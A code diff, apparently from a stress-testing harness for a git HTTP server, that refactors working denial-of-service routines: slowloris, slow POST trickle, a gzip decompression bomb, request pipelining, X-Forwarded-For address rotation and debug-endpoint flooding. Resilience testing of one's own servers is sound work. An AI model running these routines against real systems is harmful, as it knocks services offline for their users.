@@ -86,15 +86,15 @@ async def keep(attack, deadline, one):
             await asyncio.sleep(0.2)
 
 
-async def slowloris(args, attack, deadline):
+async def drip(args, attack, deadline, head, piece):
+    """Sends `head`, then `piece` once a second, until the server answers or closes."""
     async def one():
         reader, writer = await connect(args)
         attack.opened += 1
-        writer.write(f"GET /{args.repo}/info/refs?service=git-upload-pack HTTP/1.1\r\n"
-                     "Host: x\r\nX-Slow: ".encode())
+        writer.write(head)
         try:
             while time.monotonic() < deadline and not reader.at_eof():
-                writer.write(b"a")
+                writer.write(piece)
                 await writer.drain()
                 try:
                     attack.answers[await asyncio.wait_for(read_status(reader), 1)] += 1
@@ -104,6 +104,12 @@ async def slowloris(args, attack, deadline):
         finally:
             writer.close()
     await keep(attack, deadline, one)
+
+
+async def slowloris(args, attack, deadline):
+    await drip(args, attack, deadline,
+               f"GET /{args.repo}/info/refs?service=git-upload-pack HTTP/1.1\r\n"
+               "Host: x\r\nX-Slow: ".encode(), b"a")
 
 
 async def idle(args, attack, deadline):
@@ -121,24 +127,10 @@ async def idle(args, attack, deadline):
 
 
 async def trickle(args, attack, deadline):
-    async def one():
-        reader, writer = await connect(args)
-        attack.opened += 1
-        writer.write(f"POST /{args.repo}/git-upload-pack HTTP/1.1\r\nHost: x\r\n"
-                     "Content-Type: application/x-git-upload-pack-request\r\n"
-                     "Content-Length: 8000000\r\n\r\n".encode())
-        try:
-            while time.monotonic() < deadline:
-                writer.write(b"0" * 10)
-                await writer.drain()
-                try:
-                    attack.answers[await asyncio.wait_for(read_status(reader), 1)] += 1
-                    return
-                except asyncio.TimeoutError:
-                    pass
-        finally:
-            writer.close()
-    await keep(attack, deadline, one)
+    await drip(args, attack, deadline,
+               f"POST /{args.repo}/git-upload-pack HTTP/1.1\r\nHost: x\r\n"
+               "Content-Type: application/x-git-upload-pack-request\r\n"
+               "Content-Length: 8000000\r\n\r\n".encode(), b"0" * 10)
 
 
 def bomb_body():
@@ -147,63 +139,48 @@ def bomb_body():
     return gzip.compress(line * (60 * 1024 * 1024 // len(line)) + b"0000", compresslevel=9)
 
 
-async def bombs(args, attack, deadline, body):
+async def requests(args, attack, deadline, request, responses=1, pause=0.0):
+    """Sends `request()` on a new connection, reads `responses` responses (their statuses),
+    closes, and again after `pause` seconds."""
     async def one():
         reader, writer = await connect(args)
         attack.opened += 1
-        writer.write(f"POST /{args.repo}/git-upload-pack HTTP/1.1\r\nHost: x\r\n"
-                     "Content-Type: application/x-git-upload-pack-request\r\n"
-                     f"Content-Encoding: gzip\r\nContent-Length: {len(body)}\r\n"
-                     "Connection: close\r\n\r\n".encode() + body)
+        writer.write(request())
         try:
             await writer.drain()
-            attack.answers[await asyncio.wait_for(read_status(reader), 30)] += 1
-        finally:
-            writer.close()
-    await keep(attack, deadline, one)
-
-
-async def pipelined(args, attack, deadline):
-    async def one():
-        reader, writer = await connect(args)
-        attack.opened += 1
-        request = (f"GET /{args.repo}/info/refs?service=git-upload-pack HTTP/1.1\r\n"
-                   "Host: x\r\n\r\n").encode()
-        writer.write(request + request)
-        try:
-            for _ in range(2):
+            for _ in range(responses):
                 attack.answers[await asyncio.wait_for(read_response(reader), 30)] += 1
         finally:
             writer.close()
+        await asyncio.sleep(pause)
     await keep(attack, deadline, one)
+
+
+async def bombs(args, attack, deadline, body):
+    await requests(args, attack, deadline, lambda: (
+        f"POST /{args.repo}/git-upload-pack HTTP/1.1\r\nHost: x\r\n"
+        "Content-Type: application/x-git-upload-pack-request\r\n"
+        f"Content-Encoding: gzip\r\nContent-Length: {len(body)}\r\n"
+        "Connection: close\r\n\r\n").encode() + body)
+
+
+async def pipelined(args, attack, deadline):
+    one = (f"GET /{args.repo}/info/refs?service=git-upload-pack HTTP/1.1\r\n"
+           "Host: x\r\n\r\n").encode()
+    await requests(args, attack, deadline, lambda: one + one, responses=2)
 
 
 async def rotation(args, attack, deadline):
-    async def one():
-        reader, writer = await connect(args)
-        attack.opened += 1
-        client = str(ipaddress.IPv4Address(random.getrandbits(32)))
-        writer.write(f"GET /{args.repo}/info/refs?service=git-upload-pack HTTP/1.1\r\n"
-                     f"Host: x\r\nX-Forwarded-For: {client}\r\nConnection: close\r\n\r\n"
-                     .encode())
-        try:
-            attack.answers[await asyncio.wait_for(read_response(reader), 30)] += 1
-        finally:
-            writer.close()
-    await keep(attack, deadline, one)
+    await requests(args, attack, deadline, lambda: (
+        f"GET /{args.repo}/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: x\r\n"
+        f"X-Forwarded-For: {ipaddress.IPv4Address(random.getrandbits(32))}\r\n"
+        "Connection: close\r\n\r\n").encode())
 
 
 async def debug(args, attack, deadline):
-    async def one():
-        reader, writer = await connect(args)
-        attack.opened += 1
-        writer.write(b"GET /debug/scheduler HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
-        try:
-            attack.answers[await asyncio.wait_for(read_response(reader), 30)] += 1
-        finally:
-            writer.close()
-        await asyncio.sleep(0.1)
-    await keep(attack, deadline, one)
+    await requests(args, attack, deadline, lambda:
+                   b"GET /debug/scheduler HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+                   pause=0.1)
 
 
 async def main():
